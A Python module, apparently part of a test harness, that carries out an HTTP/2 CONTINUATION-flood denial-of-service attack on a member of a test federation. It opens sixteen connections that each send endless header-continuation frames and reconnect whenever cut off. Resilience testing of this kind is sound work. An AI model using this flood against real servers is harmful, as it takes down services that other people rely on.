"""Header blocks that never end: a call is made, so that its connection stays, and then a second one begins whose header
goes on for ever in CONTINUATION frames (RFC 9113, section 6.10), as fast as the hub reads.
"""

from __future__ import annotations

import contextlib
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Final

from bench.attacks.frames import (
    CONTINUATION,
    HEADERS,
    HEADS,
    Target,
    call,
    call_headers,
    dial,
    frame,
    literal,
    settings,
)
from bench.attacks.frames import target as find
from bench.attacks.process import running

if TYPE_CHECKING:
    from bench.federation import Federation

CONNECTIONS: Final = 16
"""As many as a member may have."""
PAUSE: Final = 0.3
"""For the first call to be answered."""
_MORE: Final = frame(CONTINUATION, 0, 3, literal("x" * 20, "y" * 80) * 10) * 20
"""Twenty frames of the block."""


def run(at: Target) -> None:
    """For ever: a connection that was ended is made again."""
    sending = [threading.Thread(target=_send, args=(at,), daemon=True) for _ in range(CONNECTIONS)]
    for each in sending:
        each.start()
    for each in sending:
        each.join()


def _send(at: Target) -> None:
    while True:
        with contextlib.suppress(OSError), dial(at.main, at, settings() + call(1, HEADS, b"")) as connection:
            time.sleep(PAUSE)
            connection.sendall(frame(HEADERS, 0, 3, call_headers(HEADS)))
            while True:
                connection.sendall(_MORE)


@contextmanager
def attack(made: Federation, member: str) -> Iterator[None]:
    """By `member`, until the context ends."""
    with running(run, find(made, member)):
        yield
